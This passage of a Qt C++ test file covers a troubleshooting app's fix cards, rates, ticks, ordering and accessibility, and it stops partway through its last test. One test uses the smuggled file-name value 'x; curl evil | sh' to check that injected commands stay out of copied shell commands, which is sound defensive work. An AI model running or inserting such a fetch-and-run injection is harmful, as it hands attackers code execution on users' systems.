#include "app/notebook/fixkey.h"
#include "app/result/environment.h"
#include "tests/testing/catalog.h"
#include "tests/testing/entry.h"
#include "tests/testing/repository.h"
#include "ui/base/session.h"
#include "ui/entry/entrypage.h"
#include "ui/entry/fixcard.h"
#include "ui/entry/fixorder.h"
#include "ui/entry/fixsection.h"
#include "ui/entry/popover.h"
#include "ui/entry/ratebutton.h"
#include "ui/text/codeblock.h"
#include "ui/text/proseview.h"

#include <QAbstractButton>
#include <QApplication>
#include <QCheckBox>
#include <QClipboard>
#include <QLabel>
#include <QPushButton>
#include <QScrollBar>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QToolButton>

#include <algorithm>

using namespace Qt::StringLiterals;
using namespace waymark;
using waymark::test::repository;

namespace {

DeadEnd deadEnd(const QString &en, const QString &zh, double rate)
{
    DeadEnd fix;
    fix.action = {en, zh};
    fix.whyFails = {u"It stays as it is, whatever one does."_s, u"没有用。"_s};
    fix.failRate = rate;
    return fix;
}

Workaround workaround(const QString &en, const QString &zh, double rate, const QStringList &sources = {})
{
    Workaround fix;
    fix.action = {en, zh};
    fix.how = u"Run:\n\n```bash\n$ git add {file}\n```"_s;
    fix.proseZh = u"运行："_s;
    fix.successRate = rate;
    fix.sources = sources;
    return fix;
}

/// Two dead ends; workarounds with an estimate, with sources, with a script.
Entry exampleEntry()
{
    Entry entry = test::entry(u"git/example"_s, {u"error: cannot read {file}"_s, u"读不了 {file}"_s});
    entry.placeholders = {{u"file"_s, {SlotKind::File}}};
    entry.rootCause = {u"Somebody holds `{file}`."_s, u"有人占着 `{file}`。"_s};
    entry.deadEnds = {deadEnd(u"Reboot"_s, u"重启"_s, 0.6), deadEnd(u"Reinstall"_s, u"重装"_s, 0.95)};
    entry.workarounds = {
        workaround(u"Wait"_s, u"等待"_s, 0.95),
        workaround(u"Ask"_s, u"询问"_s, 0.6, {u"https://git-scm.com/docs/a"_s, u"https://example.org/b"_s}),
        workaround(u"Copy"_s, u"复制"_s, 0.4)};
    entry.workarounds[2].verified = Verified{u"git 2.39.5"_s, QDate(2026, 11, 20)};
    entry.samples = {{u"error: cannot read x"_s, u"reproduced"_s, u"git 2.39.5"_s, {}},
                     {u"error: cannot read y"_s, u"documented"_s, {}, {}}};
    entry.tier = VerificationTier::Reproduced;
    entry.versions = {{u"git 2.1"_s, {}, {}, {}, {u"one"_s, {}}, {}},
                      {u"git 2.2"_s, {}, {}, {}, {u"two"_s, {}}, {}},
                      {u"git 2.3"_s, {}, {}, {}, {u"three"_s, {}}, {}}};
    return entry;
}

Finding findingWith(const QString &file)
{
    Finding finding;
    finding.entryId = u"git/example"_s;
    Occurrence occurrence;
    occurrence.line = 3;
    occurrence.text = u"error: cannot read it"_s;
    finding.occurrences = {occurrence};
    finding.captures = {{u"file"_s, file}};
    return finding;
}

} // namespace

/// Ticks cards, answers, reads rates, as a person would.
class TestFixes : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void cleanup();
    void thePasteFillsTextsAndCommands();
    void whatIsShownIsCopied();
    void aHostileValueStaysOutOfTheCommand();
    void fillingCanBeSwitchedOff();
    void browsingShowsTheCatalogsWords();
    void ratesSayWhatTheyAre();
    void ownOutcomesStandBesideTheCatalogs();
    void theEntrysOrderIsKept();
    void theOrderOfFixes_data();
    void theOrderOfFixes();
    void theFirstFixIsHeadedSo();
    void theFirstFixSaysWhy();
    void theSystemRulesOutTheFirstFix();
    void aCardIsBriefUntilItIsOpened();
    void aDeadEndSaysWhyItFails();
    void aTickedDeadEndFolds();
    void spaceTicksTheCardUnderFocus();
    void aFailedWorkaroundGivesWayToTheNext();
    void oneThatWorkedComesFirst();
    void anAnswerCanBeTakenBack();
    void startOverTakesTheTicksAway();
    void ticksSurviveARestart();
    void anotherLanguageKeepsTicksFoldsAndFocus();
    void nothingJumpsUnderTheReader();
    void cardsMoveOnlyWhenTheyAreLeft();
    void changesFromElsewhereAreShown();
    void theRateOpensByKeyboard();
    void theTierExplainsItself();
    void thePopoversLinksAreReported();
    void enterUnfoldsAFoldedCard();
    void aClickOnTheTitleTakesTheCard();
    void aCardCopiesItsCode();
    void everythingHasAName();

private:
    void open(const Entry &entry, const std::optional<Finding> &finding = {});
    FixCard *card(const QString &title) const;
    QStringList titles(FixKey::Kind kind) const;
    template <typename Widget>
    Widget *part(const QString &title, const QString &name) const
    {
        return card(title)->findChild<Widget *>(name);
    }
    QString progress() const;
    int topOf(const QWidget *widget) const { return widget->mapTo(m_page->viewport(), QPoint(0, 0)).y(); }
    void leave();

    std::unique_ptr<Notebook> m_notebook;
    std::unique_ptr<Session> m_session;
    std::unique_ptr<QWidget> m_window;
    EntryPage *m_page = nullptr;
    QPushButton *m_elsewhere = nullptr;
};

void TestFixes::init()
{
    m_notebook = std::make_unique<Notebook>();
    m_session = std::make_unique<Session>();
    m_window = std::make_unique<QWidget>();
    m_page = new EntryPage(*m_session, repository(), *m_notebook, m_window.get());
    m_elsewhere = new QPushButton(u"elsewhere"_s, m_window.get());
    m_window->resize(760, 620);
    m_page->setGeometry(0, 0, 760, 560);
    m_elsewhere->setGeometry(0, 570, 200, 30);
    m_window->show();
    m_window->activateWindow();
    QVERIFY(QTest::qWaitForWindowActive(m_window.get()));
}

void TestFixes::cleanup()
{
    m_window.reset();
    m_notebook.reset();
}

void TestFixes::open(const Entry &entry, const std::optional<Finding> &finding)
{
    m_session->setCatalog(test::catalogOf({entry}));
    m_page->showEntry(entry.id, finding);
    QCoreApplication::processEvents();
}

FixCard *TestFixes::card(const QString &title) const
{
    const QList<FixCard *> cards = m_page->widget()->findChildren<FixCard *>();
    const auto found = std::ranges::find_if(cards, [&](const FixCard *each) { return each->title() == title; });
    return found == cards.end() ? nullptr : *found;
}

QStringList TestFixes::titles(FixKey::Kind kind) const
{
    // Dead ends stand on the left.
    QList<FixCard *> cards = m_page->widget()->findChildren<FixCard *>();
    cards.removeIf([&](const FixCard *each) {
        const bool left = each->mapTo(m_page->widget(), QPoint(0, 0)).x() < m_page->widget()->width() / 2;
        return left != (kind == FixKey::Kind::DeadEnd);
    });
    std::ranges::sort(cards, {}, [](const FixCard *each) { return each->mapToGlobal(QPoint(0, 0)).y(); });
    QStringList titles;
    for (const FixCard *each : std::as_const(cards))
        titles << each->title();
    return titles;
}

QString TestFixes::progress() const
{
    const auto *line = m_page->widget()->findChild<QLabel *>(u"progress"_s);
    return line->isVisible() ? line->text() : QString();
}

void TestFixes::leave()
{
    m_elsewhere->setFocus();
    QCoreApplication::processEvents();
}

void TestFixes::thePasteFillsTextsAndCommands()
{
    open(exampleEntry(), findingWith(u"data/my-file.bin"_s));
    QStringList texts;
    const QList<ProseView *> proses = m_page->widget()->findChildren<ProseView *>();
    for (const ProseView *prose : proses)
        texts << prose->toPlainText();
    QVERIFY(texts.contains(u"Somebody holds data/my-file.bin."_s));
    QVERIFY(texts.contains(u"有人占着 data/my-file.bin。"_s));
    QVERIFY(texts.contains(u"error: cannot read data/my-file.bin"_s));
    const auto *code = card(u"Wait"_s)->findChild<CodeBlock *>();
    QCOMPARE(code->shownText(), u"$ git add data/my-file.bin"_s);
    QVERIFY(code->findChild<QWidget *>(u"code"_s)->accessibleDescription().contains(
        u"From your paste: file = data/my-file.bin"_s));
}

void TestFixes::whatIsShownIsCopied()
{
    open(exampleEntry(), findingWith(u"a.bin"_s));
    QSignalSpy copied(m_page, &EntryPage::copied);
    card(u"Wait"_s)->findChild<CodeBlock *>()->copyCode();
    QCOMPARE(QGuiApplication::clipboard()->text(), u"git add a.bin"_s);
    QCOMPARE(copied.size(), 1);
}

void TestFixes::aHostileValueStaysOutOfTheCommand()
{
    open(exampleEntry(), findingWith(u"x; curl evil | sh"_s));
    card(u"Wait"_s)->findChild<CodeBlock *>()->copyCode();
    QCOMPARE(QGuiApplication::clipboard()->text(), u"git add {file}"_s);
    const auto *note = part<QLabel>(u"Wait"_s, u"toFillIn"_s);
    QVERIFY(note);
    QCOMPARE(note->textFormat(), Qt::PlainText);
    QVERIFY(note->text().contains(u"x; curl evil | sh"_s)); // beside it, for the reader to judge
}

void TestFixes::fillingCanBeSwitchedOff()
{
    open(exampleEntry(), findingWith(u"a.bin"_s));
    auto *box = m_page->widget()->findChild<QCheckBox *>(u"fillIn"_s);
    QVERIFY(box && box->isChecked());
    box->click();
    QTRY_COMPARE(card(u"Wait"_s)->findChild<CodeBlock *>()->shownText(), u"$ git add {file}"_s);
    box = m_page->widget()->findChild<QCheckBox *>(u"fillIn"_s);
    QVERIFY(box && !box->isChecked());
    box->click();
    QTRY_COMPARE(card(u"Wait"_s)->findChild<CodeBlock *>()->shownText(), u"$ git add a.bin"_s);
}

void TestFixes::browsingShowsTheCatalogsWords()
{
    open(exampleEntry());
    QCOMPARE(card(u"Wait"_s)->findChild<CodeBlock *>()->shownText(), u"$ git add {file}"_s);
    QVERIFY(!m_page->widget()->findChild<QCheckBox *>(u"fillIn"_s));
    QVERIFY(!part<QLabel>(u"Wait"_s, u"toFillIn"_s));
    QStringList texts;
    for (const ProseView *prose : m_page->widget()->findChildren<ProseView *>())
        texts << prose->toPlainText();
    QVERIFY(texts.contains(u"error: cannot read file"_s)); // a word, not in braces
    QVERIFY(texts.contains(u"Somebody holds file."_s));
}

void TestFixes::ratesSayWhatTheyAre()
{
    Entry entry = exampleEntry();
    entry.workarounds[1].successRate.reset();
    entry.deadEnds[1].failRate.reset();
    open(entry);
    QCOMPARE(card(u"Ask"_s)->findChild<RateButton *>()->text(), u"not rated · 2 sources"_s);
    QCOMPARE(card(u"Reinstall"_s)->findChild<RateButton *>()->text(), u"not rated"_s);
    open(exampleEntry());
    const auto words = [this](const QString &title) { return card(title)->findChild<RateButton *>()->text(); };
    QCOMPARE(words(u"Wait"_s), u"usually works · estimate, no source"_s);
    QCOMPARE(words(u"Ask"_s), u"sometimes works · estimate, 2 sources"_s);
    QCOMPARE(words(u"Copy"_s), u"works: tried with git 2.39.5 on 2026-11-20"_s);
    QCOMPARE(words(u"Reboot"_s), u"sometimes fails · estimate, no source"_s);
    const auto *estimate = card(u"Wait"_s)->findChild<RateButton *>();
    QVERIFY2(!estimate->text().contains(u'%'), "a bare percentage is shown");
    QVERIFY2(!estimate->accessibleName().contains(u'%'), "a number that nobody counted is spoken");
    QVERIFY(estimate->accessibleName().contains(u"estimate, without observations"_s));
    QVERIFY(!card(u"Copy"_s)->findChild<RateButton *>()->accessibleName().contains(u"estimate"_s));
}

void TestFixes::ownOutcomesStandBesideTheCatalogs()
{
    const Entry entry = exampleEntry();
    const FixKey wait = fixKey(entry.id, entry.workarounds.first());
    for (const TryState state : {TryState::Worked, TryState::Failed, TryState::Worked}) {
        m_notebook->setTryState(wait, state);
        m_notebook->startOver(entry.id);
    }
    open(entry);
    const auto *rate = card(u"Wait"_s)->findChild<RateButton *>();
    const QString today = QDate::currentDate().toString(Qt::ISODate);
    QCOMPARE(rate->text(), u"usually works · estimate, no source\nyou: worked 2 of 3 times, last %1"_s.arg(today));
    QCOMPARE(rate->lines().size(), 2);
}

void TestFixes::theEntrysOrderIsKept()
{
    open(exampleEntry());
    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Wait"_s, u"Ask"_s, u"Copy"_s}));
    QCOMPARE(titles(FixKey::Kind::DeadEnd), (QStringList{u"Reboot"_s, u"Reinstall"_s}));
}

void TestFixes::theOrderOfFixes_data()
{
    QTest::addColumn<QList<FixFacts>>("fixes");
    QTest::addColumn<QList<qsizetype>>("order");
    QTest::addColumn<qsizetype>("next");
    using Order = QList<qsizetype>;
    const FixFacts untried;
    const FixFacts other{TryState::Untried, FixFit::Kind::Lacking};
    const FixFacts mine{TryState::Untried, FixFit::Kind::Fits};
    const FixFacts contradicted{TryState::Untried, FixFit::Kind::Contradicted};
    const FixFacts tried{TryState::Tried};
    const FixFacts worked{TryState::Worked};
    const FixFacts failed{TryState::Failed};
    QTest::newRow("none") << QList<FixFacts>() << Order() << qsizetype(-1);
    QTest::newRow("as written") << QList{untried, untried} << Order{0, 1} << qsizetype(0);
    QTest::newRow("for another version: after the others") << QList{other, untried} << Order{1, 0} << qsizetype(1);
    QTest::newRow("failed just now: last") << QList{failed, other, untried} << Order{2, 1, 0} << qsizetype(2);
    QTest::newRow("for the reader's case: first") << QList{untried, other, mine} << Order{2, 0, 1} << qsizetype(2);
    QTest::newRow("for other cases: behind what failed")
        << QList{contradicted, failed, untried} << Order{2, 1, 0} << qsizetype(2);
    QTest::newRow("tried without an answer stays, and is not next")
        << QList{tried, untried} << Order{0, 1} << qsizetype(1);
    QTest::newRow("worked: first, and nothing is next") << QList{untried, worked} << Order{1, 0} << qsizetype(-1);
    QTest::newRow("all failed") << QList{failed} << Order{0} << qsizetype(-1);
}

void TestFixes::theOrderOfFixes()
{
    QFETCH(QList<FixFacts>, fixes);
    const QList<qsizetype> order = fixOrder(fixes);
    QTEST(order, "order");
    QTEST(nextFix(fixes, order), "next");
}

void TestFixes::theFirstFixIsHeadedSo()
{
    const auto heading = [this](const QString &words) {
        for (QLabel *label : m_page->widget()->findChildren<QLabel *>()) {
            if (label->isVisible() && label->text() == words)
                return label;
        }
        return static_cast<QLabel *>(nullptr);
    };
    Entry entry = exampleEntry();
    open(entry);
    QVERIFY(heading(u"Workarounds"_s));
    QVERIFY(!heading(u"Do this first"_s));

    open(entry, findingWith(u"a.bin"_s));
    QLabel *first = heading(u"Do this first"_s);
    QVERIFY(first);
    QVERIFY(!heading(u"Workarounds"_s));
    QVERIFY(topOf(first) < topOf(card(u"Wait"_s)));
    QVERIFY(topOf(card(u"Wait"_s)) < topOf(heading(u"Other workarounds"_s)));
    QVERIFY(topOf(heading(u"Other workarounds"_s)) < topOf(card(u"Ask"_s)));
    QCOMPARE(m_page->widget()->findChildren<FixCard *>().size(), 5); // each stands there once

    part<QCheckBox>(u"Wait"_s, u"tried"_s)->click(); // from here on the progress says what is next
    QVERIFY(!heading(u"Do this first"_s));
    QVERIFY(heading(u"Workarounds"_s));
}

void TestFixes::theFirstFixSaysWhy()
{
    const auto why = [this] { return m_page->widget()->findChild<QLabel *>(u"whyFirst"_s)->text(); };
    Entry entry = exampleEntry();
    open(entry, findingWith(u"a.bin"_s));
    QCOMPARE(why(), u"The entry names the best first."_s);

    entry.workarounds[0].condition = {u"git ≥ 2.30"_s, {}};
    Diagnosis diagnosis;
    diagnosis.environment = readEnvironment(u"git version 2.39.5"_s);
    m_session->setDiagnosis(diagnosis, u"git version 2.39.5"_s);
    open(entry, findingWith(u"a.bin"_s));
    QCOMPARE(why(), u"First in the entry; your git 2.39.5 meets its condition."_s);

    entry.workarounds[0].condition = {u"git ≥ 2.45"_s, {}};
    open(entry, findingWith(u"a.bin"_s));
    QCOMPARE(why(), u"The first that your versions do not rule out."_s);
    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Ask"_s, u"Copy"_s, u"Wait"_s}));
}

void TestFixes::theSystemRulesOutTheFirstFix()
{
    const auto why = [this] { return m_page->widget()->findChild<QLabel *>(u"whyFirst"_s)->text(); };
    const auto diagnose = [this](const QString &paste) {
        Diagnosis diagnosis;
        diagnosis.environment = readEnvironment(paste);
        m_session->setDiagnosis(diagnosis, paste);
    };
    Entry entry = exampleEntry();
    entry.workarounds[0].condition = {u"Windows"_s, {}};
    diagnose(u"OS: Ubuntu 22.04.3 LTS\ngit version 2.39.5"_s);
    open(entry, findingWith(u"a.bin"_s));
    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Ask"_s, u"Copy"_s, u"Wait"_s}));
    QCOMPARE(why(), u"The first that your system, Linux, does not rule out."_s);
    QCOMPARE(part<QLabel>(u"Wait"_s, u"lacking"_s)->text(), u"! Needs Windows; the paste shows Linux."_s);

    entry.workarounds[1].condition = {u"git ≥ 2.45"_s, {}};
    open(entry, findingWith(u"a.bin"_s));
    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Copy"_s, u"Wait"_s, u"Ask"_s}));
    QCOMPARE(why(), u"The first that your system and your versions do not rule out."_s);

    diagnose(u"PermissionError: [WinError 5]"_s);
    QTRY_COMPARE(titles(FixKey::Kind::Workaround).first(), u"Wait"_s);
    QCOMPARE(why(), u"The entry names the best first."_s);
    QVERIFY(!part<QLabel>(u"Wait"_s, u"lacking"_s));
}

void TestFixes::aCardIsBriefUntilItIsOpened()
{
    Entry entry = exampleEntry();
    entry.workarounds[0].condition = {u"you have time"_s, {}};
    open(entry);
    FixCard *wait = card(u"Wait"_s);
    const auto shownWords = [&] {
        QStringList words;
        for (const ProseView *prose : wait->findChildren<ProseView *>()) {
            if (prose->isVisible())
                words << prose->toPlainText();
        }
        return words;
    };
    QCOMPARE(shownWords(), QStringList{u"Wait"_s});
    QVERIFY(wait->findChild<CodeBlock *>()->isVisible());
    const int height = wait->height();
    wait->setFocus();
    QTest::keyClick(wait, Qt::Key_Return);
    QTRY_VERIFY(wait->height() > height);
    QCOMPARE(shownWords(), (QStringList{u"Condition: you have time"_s, u"Run:"_s, u"Wait"_s}));
    m_session->setLanguage(Language::Chinese);
    QCoreApplication::processEvents();
    QVERIFY(card(u"等待"_s)->isOpen());
    QVERIFY(!card(u"询问"_s)->isOpen());
}

void TestFixes::aDeadEndSaysWhyItFails()
{
    open(exampleEntry());
    const auto saysWhy = [this](const QString &title) {
        return std::ranges::any_of(card(title)->findChildren<ProseView *>(), [](const ProseView *prose) {
            return prose->isVisible() && prose->toPlainText().startsWith(u"It stays"_s);
        });
    };
    QVERIFY(saysWhy(u"Reboot"_s));
    QVERIFY(saysWhy(u"Reinstall"_s));
    part<QCheckBox>(u"Reinstall"_s, u"tried"_s)->click(); // in vain: its title is enough
    QVERIFY(!saysWhy(u"Reinstall"_s));
}

void TestFixes::aTickedDeadEndFolds()
{
    open(exampleEntry());
    FixCard *reboot = card(u"Reboot"_s);
    const int height = reboot->height();
    QTest::mouseClick(part<QCheckBox>(u"Reboot"_s, u"tried"_s), Qt::LeftButton, {}, QPoint(8, 8));
    QVERIFY(!reboot->isOpen());
    QVERIFY(reboot->height() < height);
    QCOMPARE(part<QLabel>(u"Reboot"_s, u"folded"_s)->text(), u"Reboot"_s);
    QCOMPARE(progress(), u"1 tried, next: Wait"_s);
    QCOMPARE(part<QLabel>(u"Wait"_s, u"mark"_s)->text(), u"next"_s);
    QCOMPARE(m_notebook->tryState({u"git/example"_s, FixKey::Kind::DeadEnd, u"Reboot"_s}), TryState::Tried);

    QTest::mouseClick(part<QToolButton>(u"Reboot"_s, u"unfold"_s), Qt::LeftButton);
    QVERIFY(reboot->isOpen());
    QCOMPARE(m_notebook->tryState({u"git/example"_s, FixKey::Kind::DeadEnd, u"Reboot"_s}), TryState::Tried);
    QTest::mouseClick(part<QCheckBox>(u"Reboot"_s, u"tried"_s), Qt::LeftButton, {}, QPoint(8, 8));
    QVERIFY(reboot->isOpen());
    QVERIFY(progress().isEmpty());
}

void TestFixes::spaceTicksTheCardUnderFocus()
{
    open(exampleEntry());
    FixCard *copy = card(u"Copy"_s);
    copy->setFocus(Qt::TabFocusReason);
    QTest::keyClick(QApplication::focusWidget(), Qt::Key_Space);
    QVERIFY(part<QCheckBox>(u"Copy"_s, u"tried"_s)->isChecked());
    QVERIFY(part<QWidget>(u"Copy"_s, u"question"_s)->isVisible());
    QVERIFY(copy->hasFocus());
    QTest::keyClick(copy, Qt::Key_Space);
    QVERIFY(!part<QCheckBox>(u"Copy"_s, u"tried"_s)->isChecked());
    QVERIFY(!part<QWidget>(u"Copy"_s, u"question"_s)->isVisible());
}

void TestFixes::aFailedWorkaroundGivesWayToTheNext()
{
    open(exampleEntry());
    const int nextBefore = topOf(card(u"Ask"_s));
    part<QCheckBox>(u"Wait"_s, u"tried"_s)->click();
    QVERIFY(part<QToolButton>(u"Wait"_s, u"no"_s)->isVisible()); // it has a question to answer first
    part<QToolButton>(u"Wait"_s, u"no"_s)->click();
    QVERIFY(!card(u"Wait"_s)->isOpen());
    QVERIFY(topOf(card(u"Ask"_s)) < nextBefore);
    QCOMPARE(part<QLabel>(u"Ask"_s, u"mark"_s)->text(), u"next"_s);
    QVERIFY(part<QLabel>(u"Wait"_s, u"mark"_s)->text().contains(u"did not work"_s));
    QCOMPARE(progress(), u"1 tried, next: Ask"_s);
    leave();
    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Ask"_s, u"Copy"_s, u"Wait"_s}));
    QCOMPARE(m_notebook->outcomes({u"git/example"_s, FixKey::Kind::Workaround, u"Wait"_s}).failed, 1);
}

void TestFixes::oneThatWorkedComesFirst()
{
    open(exampleEntry());
    part<QCheckBox>(u"Copy"_s, u"tried"_s)->click();
    part<QToolButton>(u"Copy"_s, u"yes"_s)->click();
    QVERIFY(part<QLabel>(u"Copy"_s, u"mark"_s)->text().contains(u"worked"_s));
    QVERIFY(part<QLabel>(u"Wait"_s, u"mark"_s)->text().isEmpty());
    QCOMPARE(progress(), u"1 tried, this worked: Copy"_s);
    QVERIFY(card(u"Copy"_s)->findChild<CodeBlock *>()->isVisible());
    leave();
    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Copy"_s, u"Wait"_s, u"Ask"_s}));
    QVERIFY(card(u"Copy"_s)->findChild<RateButton *>()->text().contains(u"you: worked 1 of 1"_s));
}

void TestFixes::anAnswerCanBeTakenBack()
{
    open(exampleEntry());
    part<QCheckBox>(u"Wait"_s, u"tried"_s)->click();
    part<QToolButton>(u"Wait"_s, u"no"_s)->click();
    part<QToolButton>(u"Wait"_s, u"unfold"_s)->click();
    part<QToolButton>(u"Wait"_s, u"no"_s)->click(); // once more: no answer
    QCOMPARE(progress(), u"1 tried, next: Ask"_s);
    QVERIFY(!part<QToolButton>(u"Wait"_s, u"no"_s)->isChecked());
    QVERIFY(card(u"Wait"_s)->isOpen());
    part<QToolButton>(u"Wait"_s, u"yes"_s)->click();
    const FixKey key{u"git/example"_s, FixKey::Kind::Workaround, u"Wait"_s};
    QCOMPARE(m_notebook->tryState(key), TryState::Worked);
    QCOMPARE(m_notebook->outcomes(key).worked, 1);
    QCOMPARE(m_notebook->outcomes(key).failed, 0);
    part<QCheckBox>(u"Wait"_s, u"tried"_s)->click();
    QCOMPARE(m_notebook->tryState(key), TryState::Untried);
}

void TestFixes::startOverTakesTheTicksAway()
{
    open(exampleEntry());
    part<QCheckBox>(u"Reboot"_s, u"tried"_s)->click();
    part<QCheckBox>(u"Wait"_s, u"tried"_s)->click();
    part<QToolButton>(u"Wait"_s, u"no"_s)->click();
    QCOMPARE(progress(), u"2 tried, next: Ask"_s);
    auto *startOver = m_page->widget()->findChild<QToolButton *>(u"startOver"_s);
    startOver->setFocus();
    QTest::keyClick(startOver, Qt::Key_Space);
    QVERIFY(progress().isEmpty());
    QVERIFY(!part<QCheckBox>(u"Wait"_s, u"tried"_s)->isChecked());
    QVERIFY(!part<QLabel>(u"Reboot"_s, u"folded"_s)->isVisible());
    QVERIFY(qobject_cast<FixCard *>(QApplication::focusWidget()));
    QVERIFY(card(u"Wait"_s)->findChild<RateButton *>()->text().contains(u"you: worked 0 of 1"_s));
}

void TestFixes::ticksSurviveARestart()
{
    const QTemporaryDir folder;
    const QString file = folder.filePath(u"notebook.sqlite"_s);
    for (int run = 0; run < 2; ++run) {
        cleanup();
        init();
        delete m_page;
        m_notebook = std::make_unique<Notebook>(file);
        m_page = new EntryPage(*m_session, repository(), *m_notebook, m_window.get());
        m_page->setGeometry(0, 0, 760, 560);
        m_page->show();
        open(exampleEntry());
        if (run == 0) {
            part<QCheckBox>(u"Reinstall"_s, u"tried"_s)->click();
            part<QCheckBox>(u"Wait"_s, u"tried"_s)->click();
            part<QToolButton>(u"Wait"_s, u"no"_s)->click();
        }
    }
    QVERIFY(!card(u"Reinstall"_s)->isOpen());
    QVERIFY(!card(u"Wait"_s)->isOpen());
    QCOMPARE(progress(), u"2 tried, next: Ask"_s);
    QCOMPARE(titles(FixKey::Kind::Workaround), (QStringList{u"Ask"_s, u"Copy"_s, u"Wait"_s}));
}

void TestFixes::anotherLanguageKeepsTicksFoldsAndFocus()
{
    open(exampleEntry(), findingWith(u"a.bin"_s));
    part<QCheckBox>(u"Reboot"_s, u"tried"_s)->click();
    part<QCheckBox>(u"Wait"_s, u"tried"_s)->click();
    part<QToolButton>(u"Wait"_s, u"no"_s)->click();
    part<QToolButton>(u"Wait"_s, u"unfold"_s)->click();
    part<QCheckBox>(u"Ask"_s, u"tried"_s)->setFocus();
    const int scrolled = m_page->verticalScrollBar()->value();
    m_session->setLanguage(Language::Chinese);
    QCoreApplication::processEvents();
    QVERIFY(!card(u"重启"_s)->isOpen());
    QVERIFY(card(u"等待"_s)->isOpen()); // unfolded by hand
    QVERIFY(part<QToolButton>(u"等待"_s, u"no"_s)->isChecked());
    QCOMPARE(QApplication::focusWidget(), part<QCheckBox>(u"询问"_s, u"tried"_s));
    QCOMPARE(part<QLabel>(u"询问"_s, u"mark"_s)->isVisible(), true);
    QCOMPARE(m_page->verticalScrollBar()->value(), scrolled);
    m_session->setLanguage(Language::English);
    QVERIFY(!card(u"Reboot"_s)->isOpen());
}

void TestFixes::nothingJumpsUnderTheReader()
{
    Entry entry = exampleEntry();
    for (int i = 0; i < 20; ++i)
        entry.deadEnds.append(deadEnd(u"Try %1"_s.arg(i), u"尝试 %1"_s.arg(i), 0.5));
    open(entry);
    m_page->verticalScrollBar()->setValue(150);
    for (const QString &title : {u"Try 2"_s, u"Wait"_s}) {
        const int top = topOf(card(title));
        part<QCheckBox>(title, u"tried"_s)->click();
        QCoreApplication::processEvents();
        QCOMPARE(topOf(card(title)), top);
    }
    const int top = topOf(card(u"Wait"_s));
    part<QToolButton>(u"Wait"_s, u"no"_s)->click();
    QCoreApplication::processEvents();
    QCOMPARE(topOf(card(u"Wait"_s)), top);
}

void TestFixes::cardsMoveOnlyWhenTheyAreLeft()
{
    open(exampleEntry());
    card(u"Wait"_s)->setFocus();
    part<QCheckBox>(u"Wait"_s, u"tried"_s)->click();
    part<QToolButton>(u"Wait"_s, u"no"_s)->click();
    QCoreApplication::processEvents();
    QCOMPARE(titles(FixKey::Kind::Workaround).first(), u"Wait"_s);
    const int scrolled = m_page->verticalScrollBar()->value();
    leave();
    QCOMPARE(titles(FixKey::Kind::Workaround).last(), u"Wait"_s);
    QCOMPARE(m_page->verticalScrollBar()->value(), scrolled);
    // Tab follows what is seen.
    card(u"Copy"_s)->setFocus();
    QWidget *last = QApplication::focusWidget();
    for (int i = 0; i < 40 && last != card(u"Wait"_s); ++i) {
        QTest::keyClick(last, Qt::Key_Tab);
        last = QApplication::focusWidget();
        QVERIFY(last != card(u"Ask"_s));
    }
    QCOMPARE(last, card(u"Wait"_s));
}

void TestFixes::changesFromElsewhereAreShown()
{
    const Entry entry = exampleEntry();
    open(entry);
    const QWidget *page = m_page->widget();
    m_notebook->setTryState(fixKey(entry.id, entry.deadEnds.first()), TryState::Tried);
    QVERIFY(part<QLabel>(u"Reboot"_s, u"folded"_s)->isVisible());
    QCOMPARE(m_page->widget(), page); // the page is not made anew
}

void TestFixes::theRateOpensByKeyboard()
{
    open(exampleEntry());
    auto *rate = card(u"Ask"_s)->findChild<RateButton *>();
    QVERIFY(rate->focusPolicy() & Qt::TabFocus);
    rate->setFocus(Qt::TabFocusReason);
    QTest::keyClick(rate, Qt::Key_Space);
    auto *popover = qobject_cast<Popover *>(QApplication::activePopupWidget());
    QVERIFY(popover);
    for (const QString &words :
         {u"It was not run for this catalog."_s, u"An editor's estimate, without observations: sometimes works."_s,
          u"2 sources:"_s, u"git-scm.com/docs/a"_s, u"example.org/b"_s, u"You have not recorded an outcome yet."_s})
        QVERIFY2(popover->text().contains(words), qPrintable(popover->text()));
    QCOMPARE(popover->accessibleName(), popover->text());
    QTest::keyClick(popover->focusWidget(), Qt::Key_Escape);
    QTRY_VERIFY(!QApplication::activePopupWidget());
    QCOMPARE(QApplication::focusWidget(), rate);

    QTest::keyClick(rate, Qt::Key_Return);
    QTRY_VERIFY(QApplication::activePopupWidget());
    QApplication::activePopupWidget()->close();
    QTest::mouseClick(card(u"Copy"_s)->findChild<RateButton *>(), Qt::LeftButton);
    popover = qobject_cast<Popover *>(QApplication::activePopupWidget());
    QVERIFY(popover);
    QVERIFY(popover->text().contains(u"The error was made to happen and this was tried: it worked."_s));
    QVERIFY(popover->text().contains(u"tried with git 2.39.5 on 2026-11-20"_s));
    popover->close();
}

void TestFixes::theTierExplainsItself()
{
    open(exampleEntry());
    auto *tier = m_page->widget()->findChild<QAbstractButton *>(u"tier"_s);
    QVERIFY(tier);
    tier->setFocus();
    QTest::keyClick(tier, Qt::Key_Space);
    auto *popover = qobject_cast<Popover *>(QApplication::activePopupWidget());
    QVERIFY(popover);
    QCOMPARE(popover->text(),
             u"The error was made to happen, and its output was captured.\n"
             "1 captured outputs of programs that were run.\n"
             "1 outputs taken from documentation or source code.\n"
             "1 of 5 dead ends and workarounds were tried by a script."_s);
    popover->close();
}

void TestFixes::thePopoversLinksAreReported()
{
    open(exampleEntry());
    QSignalSpy links(m_page, &EntryPage::linkActivated);
    card(u"Ask"_s)->findChild<RateButton *>()->click();
    auto *popover = qobject_cast<Popover *>(QApplication::activePopupWidget());
    QVERIFY(popover);
    auto *view = popover->findChild<ProseView *>();
    QTest::keyClick(view, Qt::Key_Tab);
    QTest::keyClick(view, Qt::Key_Return);
    QCOMPARE(links.size(), 1);
    QCOMPARE(links.first().first().toUrl().host().isEmpty(), false);
    QTRY_VERIFY(!QApplication::activePopupWidget());
}

void TestFixes::enterUnfoldsAFoldedCard()
{
    Entry entry = exampleEntry();
    entry.deadEnds[0].condition = {u"in a crash"_s, {}};
    open(entry);
